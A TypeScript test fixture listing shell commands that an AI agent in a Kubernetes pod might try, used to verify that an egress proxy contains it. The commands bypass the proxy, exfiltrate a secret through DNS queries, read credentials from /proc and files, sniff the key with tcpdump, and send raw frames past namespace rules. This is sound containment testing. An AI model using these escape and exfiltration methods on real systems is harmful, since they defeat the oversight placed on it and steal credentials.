// What the agent of agent.yaml is told to do, as data for the end-to-end test: its work, which must go on however the Pod
// is run, and ways past its proxy, which must end with the shared Pod.

/** How the Deployment is run. */
export const stages = ['whole', 'kept', 'carried'] as const;
export type Stage = (typeof stages)[number];

/** Of the Deployment; what is absent is taken away. */
export const annotations: Readonly<Record<Stage, Readonly<Record<string, string>>>> = {
  whole: {},
  // It calls its proxy as http_proxy says, and nobody else; no name is resolved but by the proxy.
  kept: {
    'podsplit.io/mode': 'split',
    'podsplit.io/flows': 'agent->proxy:3128',
    'podsplit.io/egress-via': 'agent->proxy',
  },
  // Whatever it dials is carried to the proxy; names are the cluster's.
  carried: {
    'podsplit.io/mode': 'split',
    'podsplit.io/flows': 'none',
    'podsplit.io/egress-via': 'agent->proxy:3130',
    'podsplit.io/egress-dns': 'cluster',
  },
};

export interface Task {
  readonly what: string;
  /**
   * For the agent's shell. `{outside4}` and `{outside6}` are a host beyond the cluster, `{proxy}` all addresses at which the
   * proxy may be had, as they stand in a URL.
   */
  readonly command: string;
  /** Seen in the output if, and only if, it succeeded. */
  readonly proof: RegExp;
  readonly succeeds: Readonly<Record<Stage, boolean>>;
  /** Takes a socket that needs NET_RAW, which no container of an isolated Pod can have. */
  readonly raw?: true;
}

const never = { whole: false, kept: false, carried: false } as const;
const endedByVia = { whole: true, kept: false, carried: false } as const;

/** Without the variables that tell programs of the proxy, which is what makes it advice. */
const direct = "curl -sS -m 3 --noproxy '*'";
const says = (host: string, port: number): string =>
  `timeout 3 bash -c 'exec 3<>/dev/tcp/${host}/${port} && echo hello >&3 && head -1 <&3'`;
const answered = /"server": "outside"/;

export const tasks: readonly Task[] = [
  {
    what: 'calls the API, and the proxy adds the key',
    command: 'curl -sS -m 5 http://api/',
    proof: /the key is right/,
    // Nobody told the program that is carried of a proxy: the variables lead to a port that is in no flow.
    succeeds: { whole: true, kept: true, carried: false },
  },
  {
    what: 'calls the API as if there were no proxy',
    command: `${direct} http://api/`,
    proof: /the key is right|nobody said a key/,
    succeeds: { whole: true, kept: false, carried: true },
  },
  {
    what: 'calls the API as if there were no proxy, and the proxy adds the key',
    command: `${direct} http://api/`,
    proof: /the key is right/,
    succeeds: { whole: false, kept: false, carried: true },
  },
  {
    what: 'asks the proxy for a host that is not on its list',
    command: 'curl -sS -m 5 http://elsewhere/',
    proof: /nobody said a key|the key is right/,
    succeeds: never,
  },
  {
    what: 'dials that host by name, http_proxy unset',
    command: `unset http_proxy https_proxy; curl -sS -m 3 http://elsewhere/`,
    proof: /nobody said a key|the key is right/,
    succeeds: endedByVia,
  },
  {
    what: 'dials that host, and says that it is the allowed one',
    command: `${direct} -H 'Host: api' http://elsewhere/`,
    proof: /nobody said a key|the key is right/,
    succeeds: endedByVia,
  },
  { what: 'dials an IPv4 address', command: says('{outside4}', 8443), proof: answered, succeeds: endedByVia },
  { what: 'dials an IPv6 address', command: says('{outside6}', 8443), proof: answered, succeeds: endedByVia },
  {
    what: 'sends a datagram over IPv4',
    command: 'echo hello | timeout 3 socat -t 1 - UDP4:{outside4}:5300',
    proof: answered,
    succeeds: endedByVia,
  },
  {
    what: 'sends a datagram over IPv6',
    command: 'echo hello | timeout 3 socat -t 1 - UDP6:[{outside6}]:5300',
    proof: answered,
    succeeds: endedByVia,
  },
  {
    what: "hides a secret in a query of the cluster's DNS",
    command: 'dig +time=1 +tries=1 secret-4711.tunnel.example',
    proof: /status: [A-Z]/,
    // With egress-dns=cluster that is what the user has chosen.
    succeeds: { whole: true, kept: false, carried: true },
  },
  {
    what: 'the same over TCP',
    command: 'dig +tcp +time=1 +tries=1 secret-4711.tunnel.example',
    proof: /status: [A-Z]/,
    succeeds: { whole: true, kept: false, carried: true },
  },
  {
    what: 'asks a resolver of its own',
    command: 'echo hello | timeout 3 socat -t 1 - UDP4:{outside4}:53',
    proof: answered,
    succeeds: endedByVia,
  },
  { what: 'asks it over TCP', command: says('{outside4}', 53), proof: answered, succeeds: endedByVia },
  {
    what: 'pings',
    command: `python3 -c '
import socket, sys
with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as ping:
    ping.settimeout(2)
    ping.sendto(bytes.fromhex("0800f7fe00010000"), (sys.argv[1], 0))
    print("came back", len(ping.recv(2048)))' {outside4}`,
    proof: /came back/,
    succeeds: endedByVia,
    raw: true,
  },
  {
    what: "reaches the proxy's administration, by whatever address",
    command: `for host in 127.0.0.1 [::1] {proxy}; do ${direct} -g "http://$host:3129/squid-internal-mgr/info"; done`,
    proof: /Squid Object Cache/,
    succeeds: endedByVia,
  },
  {
    what: 'asks for it at the port that the agent may call',
    command: 'curl -sS -m 3 http://127.0.0.1:3128/squid-internal-mgr/info',
    proof: /Squid Object Cache/,
    succeeds: never,
  },
  {
    what: 'reads the key from files, environments and processes',
    command: 'cat /etc/proxy/credential/* /proc/*/root/etc/proxy/credential/* /proc/*/environ 2>/dev/null; env',
    proof: /example-key-4711/,
    succeeds: never,
  },
  {
    what: 'reads the key from the wire',
    command: `tcpdump -Z root -i any -A -l -s 0 tcp 2> /tmp/said > /tmp/heard &
until grep -q listening /tmp/said; do sleep 0.1; done
curl -sS -m 5 http://api/ > /dev/null
for n in $(seq 20); do grep -aq example-key /tmp/heard && break; sleep 0.1; done
kill %1; grep -ao 'example-key-....' /tmp/heard`,
    proof: /example-key-4711/,
    succeeds: endedByVia,
    raw: true,
  },
];

/** Past every rule of its own network namespace, with NET_RAW: to port 5301 of the host in argv, which counts. */
export const frame = `
import socket, struct, sys
mac = lambda text: bytes.fromhex(text.strip().replace(":", ""))
own = mac(open("/sys/class/net/eth0/address").read())
rows = [line.split() for line in open("/proc/net/arp").read().splitlines()[1:]]
router = next(mac(row[3]) for row in rows if row[5] == "eth0" and row[3] != "00:00:00:00:00:00")
ip = lambda text: socket.inet_aton(text)
udp = struct.pack("!4H", 40000, 5301, 8 + 8, 0) + b"a frame!"
head = lambda check: struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, check) + ip(sys.argv[1]) + ip(sys.argv[2])
total = sum(struct.unpack("!10H", head(0)))
total = (total & 0xffff) + (total >> 16)
packet = head(~((total & 0xffff) + (total >> 16)) & 0xffff) + udp
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind(("eth0", 0))
    print("sent", wire.send(router + own + b"\\x08\\x00" + packet))
`;
